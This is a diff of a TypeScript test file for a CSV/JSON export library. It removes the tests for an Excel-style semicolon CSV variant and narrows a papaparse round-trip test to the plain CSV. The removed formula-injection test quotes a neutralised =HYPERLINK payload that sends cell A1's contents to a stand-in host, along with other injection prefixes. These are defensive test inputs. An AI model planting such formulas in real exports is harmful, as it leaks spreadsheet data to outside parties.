@@ -2,15 +2,7 @@ import Decimal from 'decimal.js';
 import fc from 'fast-check';
 import Papa from 'papaparse';
 import { describe, expect, it } from 'vitest';
-import {
-  col,
-  neutralise,
-  restoreNeutralised,
-  toCsv,
-  toCsvExcelId,
-  toJson,
-  type Table,
-} from '../../../src/lib/ekspor/index.ts';
+import { col, neutralise, restoreNeutralised, toCsv, toJson, type Table } from '../../../src/lib/ekspor/index.ts';
 
 const small: Table = {
   name: 'kecil',
@@ -55,18 +47,6 @@ describe('toCsv', () => {
     ).toThrow(/column "tahun"/);
     expect(() => toCsv({ ...small, rows: [{ kode: 1, nama: 'x', nilai: undefined, tahun: 2024, iku: true }] })).toThrow(
       /column "kode"/,
-    );
-  });
-});
-
-describe('toCsvExcelId', () => {
-  it('writes BOM, semicolons and decimal commas in numeric columns only', () => {
-    expect(toCsvExcelId(small)).toBe(
-      '\uFEFFkode;nama;nilai;tahun;iku\r\n' +
-        'A;Satu, dua;1234567,89;2024;ya\r\n' +
-        'B;"Kata ""kutip""; titik koma";-0,42;;tidak\r\n' +
-        'C;;;2023;\r\n' +
-        'D;"dua\nbaris";0,0000001;2022;ya\r\n',
     );
   });
 });
@@ -166,17 +146,6 @@ describe('formula-injection neutralisation', () => {
     );
   });
 
-  it('neutralises the Excel-ID variant the same way, with decimal commas in the numeric column', () => {
-    const lines = toCsvExcelId(injection).split('\r\n');
-    expect(lines[0]).toBe('\uFEFFteks;angka');
-    expect(lines[1]).toBe(`"'=HYPERLINK(""http://contoh.invalid/?d=""&A1,""klik"")";-5`);
-    expect(lines[2]).toBe("'+1;-1,5");
-    expect(lines[3]).toBe("'-1+2;");
-    expect(lines[4]).toBe("'@SUM(A1:A9);");
-    expect(lines[5]).toBe("'\tX;");
-    expect(lines[8]).toBe("'-2,23%;-2,23");
-  });
-
   it('leaves JSON as printed', () => {
     const rows = JSON.parse(toJson(injection)) as { teks: string; angka: number | null }[];
     expect(rows.map((r) => r.teks)).toEqual(injection.rows.map((r) => r.teks));
@@ -209,7 +178,7 @@ describe('formula-injection neutralisation', () => {
 });
 
 describe('papaparse round trip of arbitrary text', () => {
-  it('reads back every text cell of the plain and Excel-ID CSV exactly (after restoring neutralisation)', () => {
+  it('reads back every text cell of the CSV exactly (after restoring neutralisation)', () => {
     const table = (texts: string[]): Table => ({
       ...small,
       columns: [col('teks', 'string', '', ''), col('angka', 'number', '', '')],
@@ -217,10 +186,7 @@ describe('papaparse round trip of arbitrary text', () => {
     });
     fc.assert(
       fc.property(fc.array(fc.string({ unit: 'grapheme' }), { minLength: 1, maxLength: 8 }), (texts) => {
-        for (const [body, delimiter, decimal] of [
-          [toCsv(table(texts)), ',', '.'],
-          [toCsvExcelId(table(texts)).replace(/^\uFEFF/, ''), ';', ','],
-        ] as const) {
+        for (const [body, delimiter, decimal] of [[toCsv(table(texts)), ',', '.']] as const) {
           const parsed = Papa.parse<string[]>(body, { delimiter, newline: '\r\n', skipEmptyLines: false });
           expect(parsed.errors).toEqual([]);
           const [header, ...rows] = parsed.data;
